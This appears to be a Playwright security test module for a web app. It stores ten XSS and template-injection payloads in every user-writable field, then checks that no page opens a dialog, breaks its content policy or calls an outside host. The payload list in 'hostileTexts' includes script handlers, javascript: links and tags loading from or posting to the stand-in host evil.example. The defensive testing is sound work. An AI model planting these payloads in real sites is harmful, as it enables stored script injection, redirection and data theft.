import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from '@playwright/test';
import type { SessionData } from '@sanispec/shared/contract';
import { type RouteName, routePath, routes } from '../../frontend/core/routes.ts';
import { writeWorkbook } from '../../functions/files/workbook/writeWorkbook.ts';
import { ApiClient } from '../support/apiClient.ts';
import { openChromium } from '../support/openChromium.ts';
import { type AttackedHost, attackedPassword, withHost } from './attackedHost.ts';
import { type AttackOptions, type AttackPart, emptyTally, type Tally } from './tally.ts';
import { clientOf, newId } from './toil.ts';

/** Each is a round; all would open a dialog, load something from elsewhere, or break the policy of the pages. */
const hostileTexts = [
  '"><img src=x onerror=alert(1)><script>alert(2)</script>',
  "'><svg/onload=alert(1)></textarea></title></style></script>",
  'javascript:alert(1)//"><a href="javascript:alert(2)">x</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<base href=//evil.example><link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  `{{constructor.constructor('alert(1)')()}}$${'{alert(2)}'}<%=alert(3)%>`,
  '<style>@import"//evil.example";*{background:url(//evil.example)}</style>',
  '<form action=//evil.example><button autofocus onfocus=alert(1)>',
  '![x](javascript:alert(1))[y](//evil.example)<details open ontoggle=alert(2)>',
];

/** What is too long is cut where it is shown. */
const shownLength = 12;
const fewestShown = 8;

/** Ids by which the pages that show the texts are found. */
interface HostileStore {
  readonly params: Readonly<Record<string, string>>;
  readonly customer: string;
  readonly root: string;
}

/** A catalogue whose articles, columns and translations say it in every cell that is free. */
async function hostileWorkbook(text: string): Promise<Buffer> {
  const always = { CountriesISO: 'AT;DE;XZ', Active: '1', IsSearchableBrowser: '1', Price: '10' };
  const free = [
    'Articletext',
    'ProdDescription',
    'Series',
    'Colour',
    'Brand',
    'Material',
    'PictureURL',
    'DatasheetURL',
  ];
  const flags: Readonly<Record<string, string>> = { Series: 'stdfilter;multiselect', Price: 'number;hidden' };
  const names = ['ArticleNr', ...free, ...Object.keys(always)];
  const rows = [1, 2, 3].map((number) => [`90${number}`, ...free.map(() => text), ...Object.values(always)]);
  const header = [names, names.map((name) => flags[name] ?? '')];
  return writeWorkbook([
    { name: 'Toilet_WC', rows: [...header, ...rows] },
    { name: 'Toilet_INSTSYSTEMSTOILET', rows: [...header, ...rows.map(([id, ...rest]) => [`8${id}`, ...rest])] },
  ]);
}

/** @throws Error when it is refused: a text that is not stored is not seen */
async function must<Data>(client: ApiClient, method: string, path: string, body?: unknown): Promise<Data> {
  const answer = await client.call<Data>(method, path, body);
  if (answer.status >= 300) throw new Error(`${method} ${path}: ${answer.status} ${JSON.stringify(answer.body.data)}`);
  return answer.body.data;
}

/** Writes the text wherever people write. */
async function fillStore(host: AttackedHost, text: string): Promise<HostileStore> {
  const [root, admin] = [await clientOf(host, 'root'), await clientOf(host, 'admin.de')];
  const folder = await mkdtemp(join(tmpdir(), 'hostile-'));
  const file = join(folder, `${text.replaceAll(/[/\0]/g, '_').slice(0, 80)}.xlsx`);
  await writeFile(file, await hostileWorkbook(text));
  const imported = await admin.importCatalog(file);
  const job = imported.status === 'waiting' ? await admin.continueJob(imported.id) : imported;
  await rm(folder, { recursive: true });
  if (job.status !== 'succeeded') throw new Error(`The catalogue ends as ${job.status} ${JSON.stringify(job.errors)}`);

  const email = `${newId().toLowerCase()}@example.com`;
  const name = text.slice(0, 60);
  const person = {
    email,
    password: attackedPassword,
    firstName: name,
    lastName: name,
    companyName: text,
    country: 'DE',
  };
  const { access_token: customer, userInfo } = await must<SessionData>(
    new ApiClient(host.url),
    'POST',
    '/accounts',
    person,
  );
  await must(root, 'POST', `/users/${userInfo.id}/roles`, {
    ...{ role: 'sales', assignedCountries: ['DE'], position: text, contactSalesPhone: text, reason: text },
  });
  const owner = new ApiClient(host.url, customer);
  const texts = ['description', 'buildingOwner', 'city', 'address', 'architectStudio', 'architectAddress'];
  const contact = ['architectCity', 'architectContactName', 'architectContactEmail', 'architectContactPhone'];
  const all = Object.fromEntries([...texts, ...contact].map((field) => [field, text]));
  const details = { title: text, country: 'DE', ...all };
  const { id: projectId } = await must<{ id: string }>(owner, 'POST', '/projects/user', { details });
  const entry = {
    id: newId(),
    article: '901',
    subCategory: 'WC',
    quantity: 1,
    note: { text, articleId: '901', by: text, on: '' },
  };
  const set = { id: newId(), title: text, type: 'TOILET', articles: [entry] };
  const spaces = [{ id: newId(), title: text, quantity: 1, sets: [set] }];
  await must(owner, 'PUT', `/projects/user/${projectId}/spaces`, { spaces });
  const { id: deleted } = await must<{ id: string }>(owner, 'POST', '/projects/user', { details });
  await must(owner, 'DELETE', `/projects/user/${deleted}`);
  const report = { format: 'EXCEL', locale: 'de-DE' };
  await owner.jobEnd(
    (await must<{ jobId: string }>(owner, 'POST', `/projects/user/${projectId}/report`, report)).jobId,
  );
  const share = { days: 30, withPrices: true };
  const { token } = await must<{ token: string }>(owner, 'POST', `/projects/user/${projectId}/share`, share);

  const placing = { countryRef: 'DE', countries: ['DE'], description: text };
  const condition = { columnName: 'Series', operator: 'equals', value: text };
  const list = { ...placing, title: newId(), groupTitle: text, tagLabels: [text] };
  await must(admin, 'POST', '/lists', { ...list, definitionListContent: { filtersConditions: [condition] } });
  const [from, to] = [3_600_000, 7_200_000].map((ahead) => new Date(Date.now() + ahead).toISOString());
  await must(root, 'PUT', '/server/maintenance', { maintenance: { from, to, text: { de: text } } });

  const { rowsData } = await must<{ rowsData: { id: string }[] }>(admin, 'POST', '/catalogs/search', {});
  const { access_token } = await new ApiClient(host.url).logIn('root@demo.sanispec.test', attackedPassword);
  const params = { projectId, articleId: '901', catalogId: rowsData[0]?.id ?? '', jobId: job.id, token };
  return { params, customer, root: access_token };
}

/** What a page does that it must not. */
function watch(page: Page, url: string, found: (what: string) => void): void {
  page.on('dialog', (dialog) => {
    found(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (/Content Security Policy|violates the following/.test(message.text())) found(message.text().slice(0, 300));
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(url) && /^\w+:\/\//.test(request.url())) found(`a request for ${request.url()}`);
  });
  page.on('framenavigated', (frame) => {
    if (frame !== page.mainFrame()) found(`a frame: ${frame.url()}`);
  });
}

/** Runs in the page: whether the text stands there, or in a field, as a text. */
function isShown(text: string): boolean {
  const fields = [...document.querySelectorAll('input, textarea')].map((field) => (field as HTMLInputElement).value);
  return [document.body.innerText, ...fields].some((shown) => shown.includes(text));
}

/** Who looks at which pages: those of the administration are root's. */
const customerPages: readonly RouteName[] = [
  ...(['projects', 'trash', 'profileEdit', 'projectOverview', 'projectProducts', 'projectProductDetail'] as const),
  ...(['projectSpecification', 'projectRevisions'] as const),
];
const guestPages: readonly RouteName[] = ['home', 'sharedProject', 'browseProducts', 'browseProductDetail'];
const rootPages = (Object.keys(routes) as RouteName[]).filter((name) =>
  /^(?:administration|catalog|assets|rules|users|reports|server|audit)/.test(name),
);

/** Opens pages as a user, one after the other. @returns how many show the text */
async function visit(
  browser: Browser,
  host: AttackedHost,
  { text, token, pages, params }: Visit,
  found: (what: string) => void,
): Promise<number> {
  const context = await browser.newContext({ serviceWorkers: 'block' });
  if (token !== '') await context.addCookies([{ name: 'accessToken', value: token, url: host.url, httpOnly: true }]);
  let shown = 0;
  for (const name of pages) {
    const page = await context.newPage();
    watch(page, host.url, (what) => found(`'${text}' on ${name}: ${what}`));
    await page.goto(host.url + routePath('de-DE', name, params), { waitUntil: 'networkidle' });
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    if (await page.evaluate(isShown, text.slice(0, shownLength))) shown += 1;
    await page.close();
  }
  await context.close();
  return shown;
}

interface Visit {
  readonly text: string;
  readonly token: string;
  readonly pages: readonly RouteName[];
  readonly params: HostileStore['params'];
}

async function attackPages({ seed, rounds, report, note, host: shared }: AttackOptions): Promise<Tally> {
  const tally = emptyTally();
  const browser = await openChromium();
  const found = (what: string): void => {
    tally.wrong += 1;
    report(`pages: ${what}`);
  };
  try {
    for (let round = 0; round < rounds; round += 1) {
      const text = hostileTexts[(seed + round) % hostileTexts.length] as string;
      await withHost(shared, async (host) => {
        const { params, customer, root } = await fillStore(host, text);
        const visits = [
          { text, params, token: '', pages: guestPages },
          { text, params, token: customer, pages: customerPages },
          { text, params, token: root, pages: rootPages },
        ];
        const shown = await Promise.all(visits.map((one) => visit(browser, host, one, found)));
        const [all, showing] = [visits.flatMap(({ pages }) => pages).length, shown.reduce((sum, one) => sum + one, 0)];
        tally.tried += all;
        note(`'${text}': ${all} pages, ${showing} show it`);
        // A text that no page shows proves nothing about the pages.
        if (showing < fewestShown) throw new Error(`'${text}' is shown on ${showing} pages`);
        await (await clientOf(host, 'root')).call('PUT', '/server/maintenance', { maintenance: null });
      });
    }
  } catch (error) {
    tally.crashed += 1;
    report(`pages: ${error instanceof Error ? error.stack : error}`);
  } finally {
    await browser.close();
  }
  return tally;
}

/** All pages of the site in a browser, with one hostile text wherever people write; a round is one text. */
export const pagesPart: AttackPart = { name: 'pages', rounds: hostileTexts.length, fewRounds: 1, run: attackPages };
